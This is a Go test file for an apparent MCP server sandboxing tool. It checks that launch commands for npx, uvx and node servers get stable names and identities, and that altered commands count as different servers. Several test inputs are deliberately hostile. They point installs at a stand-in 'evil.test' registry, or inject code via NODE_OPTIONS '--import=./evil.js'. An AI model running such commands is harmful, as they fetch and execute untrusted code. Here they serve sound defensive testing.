package cmdline

import (
	"strings"
	"testing"

	"github.com/mcp-jail/mcp-jail/policy"
)

// TestDefaultNameOfPackages tests that a launcher's line is named after its package, and not after the
// version or the arguments. Another command has the name that policy/config gives.
func TestDefaultNameOfPackages(t *testing.T) {
	name := func(line string) string { return DefaultName(strings.Fields(line), "/srv") }
	for line, want := range map[string]string{
		"npx -y @modelcontextprotocol/server-github": "server-github-", "uvx mcp-server-git==1.0": "mcp-server-git-", "uvx --from x y": "x-",
		"node /srv/weather/dist/index.js": "weather-",
	} {
		if got := name(line); !strings.HasPrefix(got, want) || !policy.ValidServerName(got) {
			t.Errorf("%q: %q, want %s...", line, got, want)
		}
	}
	if name("npx -y server-github") != name("npx server-github@2 --port 3") || name("npx -y server-github") == name("npx -y other") {
		t.Error("versions or arguments of a package change its name, or two packages have one name")
	}
	if name("npx -y tsx a.ts") == name("npx -y tsx b.ts") || name("npx -y tsx a.ts") != name("npx tsx@4 a.ts") || !policy.ValidServerName(name("uvx fastmcp run a.py")) {
		t.Error("a package that runs code of its arguments gives one name to two programs, or its version changes it")
	}
	if name("node a.js --x") == name("node a.js --y") {
		t.Error("two commands, one name")
	}
}

// TestIdentity tests which lines of launchers are the same server: those that differ in versions of
// packages and in arguments.
func TestIdentity(t *testing.T) {
	for _, c := range []struct {
		a, b string
		same bool
	}{
		{"npx -y @x/server-memory", "npx -y @x/server-memory@1.2.3 --port 3", true},
		{"npx -y @x/server-memory", "npx -y @y/server-memory", false},
		{"npx -y @x/server-memory", "npx -y -p @x/server-memory evil", false},
		{"npx -y @x/server-memory", "npx -y --registry=https://evil.test/ @x/server-memory", false},
		{"uvx mcp-server-git", "uvx mcp-server-git@2 --repository .", true},
		{"uvx mcp-server-git", "uvx --index https://evil.test/ mcp-server-git", false},
		{"uvx mcp-server-git", "uvx --from evil mcp-server-git", false},
		{"uvx mcp-server-git", "uvx --find-links wheels mcp-server-git", false},
		{"uvx mcp-server-git", "uvx --with-requirements r.txt mcp-server-git", false},
		{"npx -y @x/s", "env NODE_OPTIONS=--import=./evil.js npx -y @x/s", false},
		{"npx -y @x/s", "env PATH=bin npx -y @x/s", false},
		{"npx -y @x/s", "env TOKEN=t npx -y @x/s", true},
		{"npx -y @x/s", "npx -y --node-options=--import=./evil.js @x/s", false},
		{"npx -y tsx /opt/a.ts", "npx -y tsx@4 /opt/a.ts --x", true},
		{"npx -y tsx /opt/a.ts", "npx -y tsx /opt/evil.ts", false},
		{"uvx fastmcp run a.py", "uvx fastmcp run evil.py", false},
		{"uvx --from mcp python /opt/a.py", "uvx --from mcp python /opt/evil.py", false},
		{"npx -y supergateway --stdio server", "npx -y supergateway --stdio ./evil", false},
		{"node /opt/s.js", "node /opt/s.js --x", true},
		{"node /opt/s.js", "node /opt/t.js", false},
	} {
		a, b := Identity(strings.Fields(c.a), "/w"), Identity(strings.Fields(c.b), "/w")
		if (a == b) != c.same {
			t.Errorf("%s and %s: %q, %q", c.a, c.b, a, b)
		}
	}
	for line, same := range map[string]bool{
		"python3 server.py": false, "npx -y server": true, "npx -y server ./x": true, "npx -y tsx ./a.ts": false, "uvx fastmcp run a.py": false, "uvx --from mcp python -m x": false,
		"uvx --find-links wheels server": false, "uvx --find-links /wheels server": true, "uvx --with-requirements r.txt server": false, "uvx mcp-server-git --repository .": true,
		"env PATH=bin npx -y server": false, "env NODE_OPTIONS=--import=./x npx -y server": false,
	} {
		if words := strings.Fields(line); (Identity(words, "/a") == Identity(words, "/b")) != same {
			t.Errorf("%s in two directories: want the same server %t", line, same)
		}
	}
}

// TestIdentityIn: a relative script of another workspace is another program, and a relative program is not.
func TestIdentityIn(t *testing.T) {
	for _, c := range []struct {
		line, elsewhere string // in /w
		same            bool   // in the workspace /other
	}{
		{"python3 s.py", "python3 /other/s.py", false},
		{"./python s.py", "/w/python /other/s.py", false},
		{"npx ./package", "", false},
		{"python3 /w/s.py", "python3 /w/s.py", true},
		{"./server", "/w/server", true},
		{"./python /w/s.py", "/w/python /w/s.py", true},
		{"npx package", "npx package", true},
		{"server s.py", "server", true},
	} {
		words := strings.Fields(c.line)
		here, there := IdentityIn(words, "/w", "/w"), IdentityIn(words, "/w", "/other")
		if here != Identity(words, "/w") || (here == there) != c.same {
			t.Errorf("%s: %q here, and %q with another workspace", c.line, here, there)
		}
		if c.elsewhere != "" && there != IdentityIn(strings.Fields(c.elsewhere), "/x", "/y") {
			t.Errorf("%s with another workspace is not %s: %q", c.line, c.elsewhere, there)
		}
	}
	if IdentityIn(nil, "/w", "/other") != "" {
		t.Error("no command has an identity")
	}
}

func TestCodeDir(t *testing.T) {
	for line, want := range map[string]string{
		"python3 s.py": "/other", "python3 -m s": "/other", "npx ./package": "/other", "./python s.py": "/other",
		"./server": "/w", "./python /w/s.py": "/w", "/w/server": "", "npx -y package": "", "server ./x": "", "": "",
	} {
		if got := CodeDir(strings.Fields(line), "/w", "/other"); got != want {
			t.Errorf("%s: %q, want %q", line, got, want)
		}
	}
}
